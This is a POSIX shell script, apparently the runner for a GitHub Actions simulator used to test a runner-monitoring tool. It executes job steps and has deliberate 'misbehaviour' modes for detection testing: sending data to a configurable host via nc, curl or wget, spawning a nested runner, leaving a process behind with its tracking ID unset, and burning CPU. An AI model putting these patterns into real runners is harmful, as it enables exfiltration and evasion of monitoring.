#!/bin/sh
# sim-runner.sh: the RunnerGuard GitHub simulator's runner. POSIX sh only (busybox-compatible:
# sh, base64, sed, wget or curl, optionally nc). Reads its JIT config from the environment
# (ACTIONS_RUNNER_INPUT_JITCONFIG, never argv), connects, takes ONE job that fits its labels and
# runner group (not necessarily the one it was provisioned for), runs the steps with sh -c,
# reports the conclusion and exits.
# Env: SIM_RUNNER_MAX_WAIT (seconds to wait for a job, 0 = forever), SIM_RUNNER_HTTP (wget|curl).
set -u

log() { printf 'sim-runner: %s\n' "$*" >&2; }
die() { log "$*"; exit 1; }

[ -n "${ACTIONS_RUNNER_INPUT_JITCONFIG:-}" ] || die "ACTIONS_RUNNER_INPUT_JITCONFIG is not set"
cfg=$(printf '%s' "$ACTIONS_RUNNER_INPUT_JITCONFIG" | base64 -d 2>/dev/null) || die "the JIT config is not base64"
unset ACTIONS_RUNNER_INPUT_JITCONFIG

field() { printf '%s' "$cfg" | sed -n "s/.*\"$1\":\"\([^\"]*\)\".*/\1/p"; }
url=$(field url)
runner_id=$(field runner_id)
runner_name=$(field runner_name)
cred=$(field credential)
cfg=
[ -n "$url" ] && [ -n "$cred" ] || die "the JIT config lacks url or credential"

HTTP=${SIM_RUNNER_HTTP:-}
if [ -z "$HTTP" ]; then
  if command -v curl >/dev/null 2>&1; then HTTP=curl
  elif command -v wget >/dev/null 2>&1; then HTTP=wget
  else die "neither curl nor wget found"; fi
fi

# curl reads the credential header from stdin (-K -), so it never appears in the process list;
# wget (busybox) has no such option and passes it as --header.
http_get() { # url timeout
  if [ "$HTTP" = curl ]; then
    printf 'header = "X-Sim-Runner-Credential: %s"\n' "$cred" | curl -sf -m "$2" -K - "$1"
  else
    wget -q -O- -T "$2" --header "X-Sim-Runner-Credential: $cred" "$1"
  fi
}
http_post() { # url json
  if [ "$HTTP" = curl ]; then
    printf 'header = "X-Sim-Runner-Credential: %s"\n' "$cred" |
      curl -sf -m 30 -K - -H 'Content-Type: application/json' --data-binary "$2" "$1"
  else
    wget -q -O- -T 30 --header "X-Sim-Runner-Credential: $cred" \
      --header 'Content-Type: application/json' --post-data "$2" "$1"
  fi
}

http_post "$url/_sim/runner/connect" '{}' >/dev/null || die "connect refused (credential used or deleted?)"
log "runner $runner_name ($runner_id) online at $url"

work="${SIM_RUNNER_WORK:-${TMPDIR:-/tmp}}/sim-runner-$runner_id-$$"
mkdir -p "$work" || die "cannot create $work"
jobfile="$work/.job"

started=$(date +%s)
failures=0
while :; do
  if http_get "$url/_sim/runner/job" 60 >"$jobfile"; then
    failures=0
    [ -s "$jobfile" ] && break
  else
    failures=$((failures + 1))
    [ "$failures" -ge 5 ] && die "the simulator refuses this runner (deleted or used)"
    sleep 1
  fi
  if [ "${SIM_RUNNER_MAX_WAIT:-0}" -gt 0 ] && [ $(($(date +%s) - started)) -ge "$SIM_RUNNER_MAX_WAIT" ]; then
    die "no job within ${SIM_RUNNER_MAX_WAIT}s"
  fi
done

value() { sed -n "s/^$1=//p" "$jobfile" | head -n 1; }
job_id=$(value job_id)
misbehaviour=$(value misbehaviour)
log "took job $job_id"

export RUNNER_TRACKING_ID="github_$(date +%s)_$job_id"
export GITHUB_ACTIONS=true RUNNER_NAME="$runner_name" GITHUB_JOB="$job_id" GITHUB_REPOSITORY="$(value repository)"
cd "$work" || die "cannot enter $work"

secs=$(value misbehaviour_seconds)
case "$misbehaviour" in
  exfiltrate)
    host=$(value exfiltrate_host); port=$(value exfiltrate_port)
    log "misbehaviour: connecting to $host:$port"
    if command -v nc >/dev/null 2>&1; then
      printf 'exfil %s\n' "$job_id" | nc -w 2 "$host" "$port" >/dev/null 2>&1
    elif [ "$HTTP" = curl ]; then
      curl -s -m 3 "http://$host:$port/exfil" >/dev/null 2>&1
    else
      wget -q -O /dev/null -T 3 "http://$host:$port/exfil" >/dev/null 2>&1
    fi
    ;;
  nested-runner)
    mkdir -p "$work/actions-runner/bin"
    printf '#!/bin/sh\nsleep %s\n' "${secs:-30}" >"$work/actions-runner/bin/Runner.Listener"
    log "misbehaviour: starting a nested runner"
    sh "$work/actions-runner/bin/Runner.Listener" config.sh --url "https://github.com/$(value repository)" \
      </dev/null >/dev/null 2>&1 &
    ;;
  survivor)
    log "misbehaviour: leaving a process behind"
    (unset RUNNER_TRACKING_ID; exec sleep "${secs:-300}") </dev/null >/dev/null 2>&1 &
    ;;
  cpu-burn)
    log "misbehaviour: burning CPU"
    end=$(($(date +%s) + ${secs:-20}))
    while [ "$(date +%s)" -lt "$end" ]; do i=0; while [ $i -lt 20000 ]; do i=$((i + 1)); done; done
    ;;
esac

conclusion=success
failed=0
n=0
for encoded in $(sed -n 's/^step=//p' "$jobfile"); do
  n=$((n + 1))
  cmd=$(printf '%s' "$encoded" | base64 -d)
  if ! sh -c "$cmd"; then
    conclusion=failure
    failed=$n
    log "step $n failed"
    break
  fi
done

http_post "$url/_sim/runner/complete" \
  "{\"job_id\":\"$job_id\",\"conclusion\":\"$conclusion\",\"failed_step\":$failed}" >/dev/null ||
  die "could not report the result"
log "job $job_id $conclusion"
rm -f "$jobfile"
exit 0
